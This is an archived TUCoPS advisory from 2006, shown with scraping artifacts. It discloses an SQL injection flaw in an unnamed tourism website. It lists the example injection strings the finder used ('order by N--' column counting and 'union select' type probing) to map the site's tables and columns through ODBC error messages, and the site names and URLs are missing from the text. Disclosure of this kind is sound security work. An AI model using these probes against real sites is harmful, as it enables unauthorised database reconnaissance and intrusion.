Visit our newest sister site!
Hundreds of free aircraft flight manuals
Civilian • Historical • Military • Declassified • FREE!

TUCoPS :: Web :: Apps :: b06-1744.htm

SQL Injection in
SQL Injection in
SQL Injection inVulnerable Page:

Found By: Susam Pal

Found On: 29th March, 2006, Wednesday

Vulnerability Type: SQL Injection

Action Taken: Reported to

Description: is a tourism website. The site is prone to SQL injectionwhich can be exploited to reveal the table

names, some column names as well as their data types. Exploiting the vulnerability requires some reverse engineering. The ASP

ODBC error messages can be displayed by passing bad valuesfor the parameters in the URL.

Example URL 1:'

Error Found: Unclosed quotation mark before the character string ' and mncpage.mnccategoryid = mnccategory.mnccategoryid'.

Conclusion: Direct SQL Injection is possible. There are 2 tables, 'mncpage' and 'mnccategory'. Both of them have a column

called 'mnccategoryid'.

Example URL 2: order by 1--
Example URL 3: order by 2--
Example URL 4: order by 3--

Error Found: None

Example URL 5: order by 4--

Error Found: The ORDER BY position number 4 is out of range of the number of items in the select list.

Conclusion: The table being used by the query selects 3 columns and one of themis an integer.

Example URL 6: union select 'varchar1', 'varchar2', 'varchar3'

from mncpage--

Error Found: Syntax error converting the varchar value 'varchar1' to a column of data type int.

Conclusion: The 1st column in theselect query is an integer.

Error URL 7: union select mnccategoryid, 'varchar2',

'varchar3' from mncpage--

Error Found: None

Conclusion: The column 'mnccategory' is of integer type.

TUCoPS is optimized to look best in Firefox® on a widescreen monitor (1440x900 or better).
Site design & layout copyright © 1986-2015 AOH